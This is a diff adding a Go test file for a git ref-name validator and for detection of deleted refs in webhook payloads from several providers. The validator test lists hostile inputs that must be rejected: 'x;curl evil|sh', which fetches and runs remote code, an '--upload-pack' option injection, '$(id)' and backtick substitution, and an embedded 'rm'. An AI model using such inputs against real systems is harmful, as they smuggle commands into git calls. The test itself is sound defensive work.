@@ -0,0 +1,67 @@
+package main
+
+import "testing"
+
+func TestIsValidGitRefName(t *testing.T) {
+	tests := []struct {
+		name    string
+		isValid bool
+	}{
+		{"main", true},
+		{"feature/new-login", true},
+		{"v1.2.0", true},
+		{"release_2024+hotfix", true},
+		{"", false},
+		{"-u", false},
+		{"--upload-pack=touch /tmp/x", false},
+		{"x;curl evil|sh", false},
+		{"x$(id)", false},
+		{"x`id`", false},
+		{"x y", false},
+		{"a..b", false},
+		{"a//b", false},
+		{"main/", false},
+		{"main.", false},
+		{"main.lock", false},
+		{"main\nrm", false},
+	}
+
+	for _, test := range tests {
+		if isValid := isValidGitRefName(test.name); isValid != test.isValid {
+			t.Errorf("isValidGitRefName(%q) = %v, want %v", test.name, isValid, test.isValid)
+		}
+	}
+}
+
+func TestWebhookProvidersDetectDeletedRefs(t *testing.T) {
+	zeroCommit := "0000000000000000000000000000000000000000"
+
+	tests := []struct {
+		name      string
+		provider  WebhookProvider
+		body      string
+		isDeleted bool
+	}{
+		{"GitHub push", GitHubWebhookProvider{}, `{"ref":"refs/heads/main","after":"a1b2c3","head_commit":{"id":"a1b2c3"}}`, false},
+		{"GitHub deleted branch", GitHubWebhookProvider{}, `{"ref":"refs/heads/main","after":"` + zeroCommit + `","deleted":true,"head_commit":null}`, true},
+		{"GitHub deleted tag without flag", GitHubWebhookProvider{}, `{"ref":"refs/tags/v1.0.0","after":"` + zeroCommit + `"}`, true},
+		{"GitLab push", GitLabWebhookProvider{}, `{"ref":"refs/heads/main","after":"a1b2c3","checkout_sha":"a1b2c3"}`, false},
+		{"GitLab deleted branch", GitLabWebhookProvider{}, `{"ref":"refs/heads/main","after":"` + zeroCommit + `","checkout_sha":null}`, true},
+		{"Gitea push", GiteaWebhookProvider{}, `{"ref":"refs/heads/main","after":"a1b2c3"}`, false},
+		{"Gitea deleted branch", GiteaWebhookProvider{}, `{"ref":"refs/heads/main","after":"` + zeroCommit + `"}`, true},
+		{"Bitbucket push", BitbucketWebhookProvider{}, `{"push":{"changes":[{"new":{"name":"main","type":"branch","target":{"hash":"a1b2c3"}},"old":{"name":"main","type":"branch"}}]}}`, false},
+		{"Bitbucket deleted branch", BitbucketWebhookProvider{}, `{"push":{"changes":[{"new":null,"old":{"name":"main","type":"branch"}}]}}`, true},
+		{"Generic push", GenericWebhookProvider{}, `{"ref":"main","commit":"a1b2c3"}`, false},
+	}
+
+	for _, test := range tests {
+		push, err := test.provider.Parse([]byte(test.body))
+		if err != nil {
+			t.Errorf("%s: Parse() error = %v", test.name, err)
+			continue
+		}
+		if push.IsDeleted != test.isDeleted {
+			t.Errorf("%s: IsDeleted = %v, want %v", test.name, push.IsDeleted, test.isDeleted)
+		}
+	}
+}